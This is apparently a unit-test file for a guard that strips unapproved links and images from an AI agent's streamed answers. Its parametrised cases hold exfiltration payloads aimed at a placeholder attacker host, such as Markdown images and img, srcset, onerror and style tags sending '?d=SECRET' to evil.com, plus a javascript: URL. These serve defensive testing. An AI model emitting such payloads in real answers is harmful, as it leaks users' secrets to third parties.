"""The answer guard's link check, without a browser: the grid of destinations × forms from
``link_grid.py`` (labels written from the WHATWG URL standard; the e2e test checks them against
Chromium), streamed in chunks of every size, judged by rendering the guarded answer with a lax
Markdown renderer and looking for each destination's marker in the rendered URLs."""

from __future__ import annotations

import pytest

from agentstack.orchestrators.guards import AnswerGuard, GuardConfig, host_allowed
from tests.unit.link_grid import ALLOWED, FORMS, KEEP, REMOVE, cases, linked, render, renderer, url_attributes

pytestmark = pytest.mark.unit


def guarded(text: str, size: int, allowed=ALLOWED) -> tuple[str, AnswerGuard]:
    guard = AnswerGuard(GuardConfig(allowed_hosts=tuple(allowed)))
    out = "".join(guard.feed(text[i:i + size]) for i in range(0, len(text), size)) + guard.finish()
    assert out == guard.text
    return out, guard


# -- the holes the review found (each passed the old regex guard unchanged) ------------------------
@pytest.mark.parametrize("attack", [
    "![x](/\\evil.com/p.png?d=SECRET)",
    '<img src="//evil.com/p.png?d=SECRET">',
    "See the source [1].\n\n[1]: //evil.com/p?d=SECRET",
    "![logo][l]\n\n[l]: /\\evil.com/p.png?d=SECRET",
    "Open <https://evil.com/p?d=SECRET> now.",
    '<img srcset="https://ok.com/a.png 1x, //evil.com/p.png?d=SECRET 2x">',
    "[docs](<https:/\\evil.com/p?d=SECRET>)",
    "[docs](java&#9;script:alert('SECRET'))",
    "x evil.com/p?d=SECRET y",
    '<a href="https://ok.com@evil.com/p?d=SECRET">docs</a>',
    # a raw HTML block ending inside a tag: the next rendered ``>`` closes it (review finding)
    "<p><img src=https://evil.com/p.png?d=SECRET\n\nMore text.",
])
@pytest.mark.parametrize("size", [1, 3, 10_000])
def test_the_reported_forms_are_removed(attack, size):
    out, guard = guarded(attack, size, allowed=("ok.com",))
    assert "SECRET" not in " ".join(url_attributes(renderer().render(out))), out
    assert guard.stats.links_removed >= 1 and guard.stats.hosts


@pytest.mark.parametrize("form", FORMS)
def test_grid_whole_answers(form):
    md = renderer()
    failures, effective = [], 0
    for case in cases():
        text, expected = render(case, form), case.expected_in(form)
        if text is None or expected is None:
            continue
        was_linked = linked(case, form, md.render(text))
        effective += was_linked
        out, _ = guarded(text, 100_000)
        after = " ".join(url_attributes(md.render(out)))
        if expected == REMOVE and case.marker in after:
            failures.append(f"{case} survived: {out!r}")
        if expected == KEEP and was_linked and case.marker not in after:
            failures.append(f"{case} was removed: {out!r}")
    assert not failures, "\n".join(failures[:20])
    assert effective >= (60 if form == "bare" else 200), "the grid lost its teeth for this form"


@pytest.mark.slow
@pytest.mark.parametrize("form", FORMS)
def test_grid_streamed_every_prefix_is_clean(form):
    """Each case streamed in chunks of 1, 2, 3 or 5 characters (rotating); after every chunk, what
    has been sent so far must not link a refused destination, and the whole answer must agree
    with the whole-answer verdict."""
    md = renderer()
    failures = []
    for case in cases():
        text, expected = render(case, form), case.expected_in(form)
        if text is None or expected is None:
            continue
        size = (1, 2, 3, 5)[case.n % 4]
        guard = AnswerGuard(GuardConfig(allowed_hosts=ALLOWED))
        sent = ""
        for i in range(0, len(text), size):
            sent += guard.feed(text[i:i + size])
            if expected == REMOVE and case.marker in " ".join(url_attributes(md.render(sent))):
                failures.append(f"{case} linked mid-stream after {i + size} chars: {sent!r}")
                break
        sent += guard.finish()
        whole, _ = guarded(text, 100_000)
        after = " ".join(url_attributes(md.render(sent)))
        if expected == REMOVE and case.marker in after:
            failures.append(f"{case} survived streaming (size {size}): {sent!r}")
        if expected == KEEP and (case.marker in " ".join(url_attributes(md.render(whole)))) != (case.marker in after):
            failures.append(f"{case} streamed (size {size}) {sent!r} differs from whole {whole!r}")
    assert not failures, "\n".join(failures[:20])


# -- what must survive -----------------------------------------------------------------------------
@pytest.mark.parametrize("size", [1, 4, 10_000])
def test_ordinary_answers_pass_unchanged(size):
    text = ("Paris is the capital of France [1]. Prices rose 3.5% in 2023/24: see the table.\n\n"
            "| city | pop. |\n|---|---|\n| Paris | 2.1M |\n\n"
            "```python\nprint('<img src=//evil.com>')  # code is never a link\n```\n\n"
            "Use `[x](//evil.com)` in code, e.g. a < b and c > d; x<5. Email me@example.org.\n"
            "- one\n- two: [docs](https://ok.com/a) and ![ok](/static/logo.png)\n\n"
            "Files: config.py, app.toml. Done!")
    out, guard = guarded(text, size, allowed=("ok.com",))
    assert out == text
    assert guard.stats.links_removed == 0


def test_a_bracket_held_too_long_is_released_as_text():
    from agentstack.orchestrators.link_guard import HOLD_LIMIT

    text = "[" + "word " * (HOLD_LIMIT // 4) + "and more"
    guard = AnswerGuard(GuardConfig())
    early = "".join(guard.feed(text[i:i + 50]) for i in range(0, len(text), 50))
    assert len(early) > len(text) // 2  # the stream did not stall on the open bracket
    out = early + guard.finish()
    assert out.startswith("&#91;word") and out.endswith("and more")
    assert renderer().render(out + "](/x)").startswith("<p>[word")  # the opener is text now: no link


def test_mixed_answer_keeps_allowed_and_counts_removed():
    text = ("See [a](https://docs.ok.com/x), [b](//evil.com/1), <https://evil.org/2>, "
            "![c](https://ok.com/i.png) and www.evil.net/3 and https://ok.com/4.")
    out, guard = guarded(text, 2, allowed=("ok.com",))
    assert "[a](https://docs.ok.com/x)" in out and "![c](https://ok.com/i.png)" in out
    assert "https://ok.com/4" in out
    assert "evil" not in out
    assert guard.stats.links_removed == 3
    assert sorted(guard.stats.hosts) == ["evil.com", "evil.org", "www.evil.net"]


# -- the policy alone ----------------------------------------------------------------------------
def test_host_matching():
    assert host_allowed("https://a.b.example.com/x", ("example.com",))
    assert not host_allowed("https://example.com.evil.io/", ("example.com",))
    assert host_allowed("/relative/path", ())
    assert not host_allowed("//evil.io/x", ())
    assert not host_allowed("/\\evil.io/x", ())
    assert host_allowed("https:evil.io", ())  # the base's own scheme without slashes: a relative path
    assert not host_allowed("http:evil.io", ())  # another scheme: the host follows


def test_allowlist_entries_are_normalised_and_checked():
    from agentstack.orchestrators.link_policy import LinkPolicy, normalize_host

    assert normalize_host("Bücher.Example.") == "xn--bcher-kva.example"
    assert LinkPolicy(["bücher.example"]).judge("https://xn--bcher-kva.example/").allowed
    with pytest.raises(Exception, match="bare host"):
        normalize_host("https://ok.com/path")


def test_html_tags_pass_only_with_harmless_attributes():
    from agentstack.orchestrators.link_policy import LinkPolicy, srcset_urls

    policy = LinkPolicy(["ok.com"])
    assert policy.judge_tag('<a href="https://ok.com/x" title="t">').allowed
    assert policy.judge_tag("<b>").allowed and policy.judge_tag("</a>").allowed
    assert not policy.judge_tag('<img src="/ok.png" onerror="alert(1)">').allowed
    assert not policy.judge_tag('<span style="background:url(//evil.com/x)">').allowed
    assert not policy.judge_tag('<base href="//evil.com/">').allowed
    assert not policy.judge_tag('<a href="https://ok.com" ping="//evil.com">').allowed
    assert not policy.judge_tag('<img src="&#x2F;&#x2F;evil.com/x">').allowed  # references decoded as a browser does
    assert srcset_urls("a.png 1x, b,c.png 2x,d.png") == ["a.png", "b,c.png", "d.png"]


def test_text_already_sent_never_makes_the_guard_remove_what_follows():
    """If something refused were ever in the text already sent (nothing can take it back), the
    guard must go on releasing the rest normally, not escape or replace every later chunk."""
    from agentstack.orchestrators.link_guard import LinkGuard
    from agentstack.orchestrators.link_policy import LinkPolicy

    guard = LinkGuard(LinkPolicy(["ok.com"]))
    guard._tail = "Seen [x](//evil.com/a) before.\n"  # as if sent by an earlier, broken guard
    out = guard.feed("Then [docs](https://ok.com/d), see: www.evil.com/b and more.") + guard.finish()
    assert out == "Then [docs](https://ok.com/d), see: [removed] and more."
    assert guard.stats.escaped == 0 and guard.stats.removed == 1


def test_sanitize_of_a_whole_text_applies_every_guard():
    """ReAct falls back to ``sanitize(answer)`` when nothing was streamed: links must go there too."""
    guard = AnswerGuard(GuardConfig(allowed_hosts=("ok.com",), valid_citations=frozenset({1})))
    out = guard.sanitize("Done [1][7]. ![x](/\\evil.com/p.png?d=SECRET) [ok](https://ok.com/a)")
    assert out == "Done [1].  [ok](https://ok.com/a)"
    assert guard.stats.links_removed == 1 and guard.stats.citations_dropped == 1
